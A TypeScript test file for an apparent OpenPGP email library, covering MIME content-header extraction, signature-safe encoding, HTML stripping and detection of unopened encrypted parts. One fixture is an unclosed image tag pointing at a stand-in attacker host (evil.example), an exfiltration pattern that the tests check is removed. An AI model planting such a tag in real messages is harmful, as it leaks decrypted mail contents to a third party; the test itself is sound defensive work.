import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { fromLatin1, latin1 } from "#base";
import { parseMessage } from "#mime";
import { contentEntity } from "./content-entity.ts";
import { isSafe, safeContent } from "./sealing/safe-content.ts";
import { findUnopenedParts } from "./opening/unopened-parts.ts";
import { withoutHtml } from "./opening/without-html.ts";

function entityOf(text: string) {
  const parsed = parseMessage(latin1(text));
  assert.ok(parsed.ok);
  return parsed.value;
}

const content = (text: string): string => fromLatin1(contentEntity(entityOf(text)));

describe("contentEntity", () => {
  it("keeps Content-* fields and body byte for byte and nothing else", () => {
    const kept = "Content-Type: text/plain;\r\n\tcharset=x\r\nCONTENT-language:  de \r\n";
    const message = entityOf(`Subject: s\r\n${kept}X-Other: 1\r\n\r\nbody \xff\r\n`);
    assert.equal(fromLatin1(contentEntity(message)), `${kept}\r\nbody \xff\r\n`);
  });

  it("drops the marks of header protection from Content-Type, stepping over quoted strings", () => {
    const type =
      'Content-Type: multipart/mixed; boundary="a; hp=b";\r\n hp="cipher"; protected-headers=v1\r\n';
    assert.equal(
      content(`${type}\r\n--a; hp=b--\r\n`),
      'Content-Type: multipart/mixed; boundary="a; hp=b"\r\n\r\n--a; hp=b--\r\n',
    );
  });

  it("drops them behind a quoted string that is not closed, too", () => {
    assert.equal(
      content('Content-Type: text/plain; x="a\\";hp=cipher;y=1\r\n\r\n'),
      'Content-Type: text/plain; x="a\\";y=1\r\n\r\n',
    );
  });

  it("keeps the first of two types and of two transfer encodings: it is the one that was judged", () => {
    const first = "Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r\n";
    const second = "content-type: text/html\r\nContent-transfer-encoding: base64\r\n";
    assert.equal(content(`${first}${second}\r\nbody`), `${first}\r\nbody`);
  });

  it("separates with the line end that the entity has", () => {
    assert.equal(
      content("Content-Type: text/plain\nSubject: s\n\nbody\n"),
      "Content-Type: text/plain\n\nbody\n",
    );
  });
});

describe("safeContent", () => {
  it("leaves what is safe as it is", () => {
    const safe = latin1("Content-Type: text/plain; charset=utf-8\r\n\r\ngr\xc3\xbcn\r\n");
    assert.equal(safeContent(safe, "lines"), safe);
  });

  it("makes line ends CRLF, and encodes binary data instead of changing it", () => {
    const text = "Content-Type: text/plain\n\none\ntwo\n";
    assert.equal(fromLatin1(safeContent(latin1(text), "lines")), text.replaceAll("\n", "\r\n"));
    const binary = "Content-Type: a/b\r\nContent-Transfer-Encoding: binary\r\n\r\n\x00\n\xff\r";
    assert.equal(
      fromLatin1(safeContent(latin1(binary), "lines")),
      "Content-Type: a/b\r\nContent-Transfer-Encoding: base64\r\n\r\nAAr/DQ==\r\n",
    );
  });

  it("encodes 8bit and long lines for a signature in clear, part by part", () => {
    const parts = [
      "Content-Type: text/plain\r\n\r\nplain",
      `Content-Type: text/html\r\n\r\n<p>gr\xfcn${"x".repeat(999)}`,
    ];
    const mixed = `Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${parts.join("\r\n--b\r\n")}\r\n--b--\r\n`;
    const safe = fromLatin1(safeContent(latin1(mixed), "7bit"));
    assert.match(safe, /Content-Type: text\/plain\r\n\r\nplain\r\n--b/);
    assert.match(safe, /Content-Type: text\/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPHA\+/);
    assert.ok(!/[^\x01-\x7f]|[^\r\n]{999}/.test(safe));
  });

  it("stays unsafe rather than break a signature that is in the content", () => {
    const signed =
      "Content-Type: multipart/signed; protocol=application/pgp-signature; boundary=b\r\n\r\n" +
      "--b\r\nContent-Type: text/plain\r\n\r\ngr\xfcn\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--b--\r\n";
    assert.equal(isSafe(safeContent(latin1(signed), "7bit"), "7bit"), false);
    assert.equal(fromLatin1(safeContent(latin1(signed), "lines")), signed);
  });
});

describe("withoutHtml", () => {
  const alternative = (...parts: string[]): Buffer =>
    Buffer.from(
      `Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n${parts.join("\r\n--b\r\n")}\r\n--b--\r\n`,
    );
  const html = "Content-Type: text/html\r\n\r\n<img src='http://evil.example/?";
  const text = "Content-Type: text/plain\r\n\r\nhello";
  const fresh = (body: string): string =>
    `Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}`;

  it("gives the text part only", () => {
    assert.equal(fromLatin1(withoutHtml(alternative(html, text)) ?? latin1("")), fresh("hello"));
  });

  it("writes one Content-Type of its own, in UTF-8, whatever else the part said of itself", () => {
    const twice = text.replace("\r\n\r\n", "\r\nContent-Type: text/html\r\nX-Other: 1\r\n\r\n");
    assert.equal(fromLatin1(withoutHtml(alternative(twice)) ?? latin1("")), fresh("hello"));
    const japanese = latin1(
      "Content-Type: text/plain; charset=iso-2022-jp; name=a.html\r\n\r\n\x1b$B$3\x1b(B",
    );
    assert.equal(fromLatin1(withoutHtml(japanese) ?? latin1("")), fresh("\xe3\x81\x93"));
  });

  it("gives nothing if there is only HTML or an attached text", () => {
    assert.equal(withoutHtml(latin1(html)), null);
    const attached = "Content-Type: text/plain\r\nContent-Disposition: attachment\r\n\r\nfile";
    assert.equal(withoutHtml(alternative(html, attached)), null);
  });
});

describe("findUnopenedParts", () => {
  const mixed = (...parts: string[]) =>
    entityOf(
      `Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${parts.join("\r\n--b\r\n")}\r\n--b--\r\n`,
    );
  const sealed = "Content-Type: multipart/encrypted; boundary=c\r\n\r\n--c--\r\n";
  const footer = "Content-Type: text/plain\r\n\r\n-- \r\nsent by a gateway";

  it("tells a footer beside a sealed entity from a sealed attachment", () => {
    assert.deepEqual(findUnopenedParts(mixed(sealed, footer), true).problems, ["changed-on-the-way"]);
    const deeper = "Content-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\n" + sealed + "\r\n--d--\r\n";
    const found = findUnopenedParts(mixed(footer, deeper), true);
    assert.deepEqual(found.problems, ["not-whole"]);
    assert.deepEqual(found.layers, [
      { kind: "encrypted", scheme: "openpgp", opened: false, why: "not-whole" },
    ]);
  });

  it("finds nothing in a plain message", () => {
    assert.deepEqual(findUnopenedParts(mixed(footer, footer), true), {
      layers: [],
      problems: [],
      signed: [],
    });
  });
});
